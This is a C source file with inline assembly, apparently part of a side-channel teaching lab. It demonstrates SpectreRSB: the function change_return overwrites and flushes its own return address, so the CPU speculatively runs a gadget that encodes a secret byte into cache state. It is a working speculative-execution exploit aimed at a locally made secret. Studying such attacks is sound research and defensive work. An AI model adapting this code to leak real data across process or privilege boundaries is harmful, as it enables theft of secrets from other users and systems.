/*
 * SpectreRSB: a return goes where the return stack buffer says, though the return address on the stack is another.
 *
 * change_return() overwrites its own return address and flushes it. The return stack buffer still predicts the place
 * behind the call, where the gadget stands: code that is never executed, but runs until the stack has been read.
 */
#include "lab.h"

static const char ABOUT[] = "nobody: the code that reads it is never executed";

static u8 secret[MOST] __attribute__((aligned(LINE)));

/* run(text): */
__asm__("run:\n\t"
        "call change_return\n\t"
        /* The gadget: the return stack buffer leads here, the stack does not. */
        "movzbl (%rdi), %eax\n\t"
        "shl $" STRIDE_SHIFT ", %rax\n\t"
        "movzbl probe(%rax), %eax\n"
        "2:\tpause\n\t"
        "lfence\n\t"
        "jmp 2b\n"
        "back:\n\t"
        "ret\n"
        "change_return:\n\t"
        "movq $back, (%rsp)\n\t"
        "clflush (%rsp)\n\t"
        "mfence\n\t"
        "lfence\n\t"
        "ret");
void run(const u8 *text);

static int prepare(u64 bytes)
{
    make_secret(secret, bytes);
    return 1;
}

static void attempt(u64 index)
{
    touch(secret + index);
    flush_probe();
    run(secret + index);
}

static void done(void)
{
}
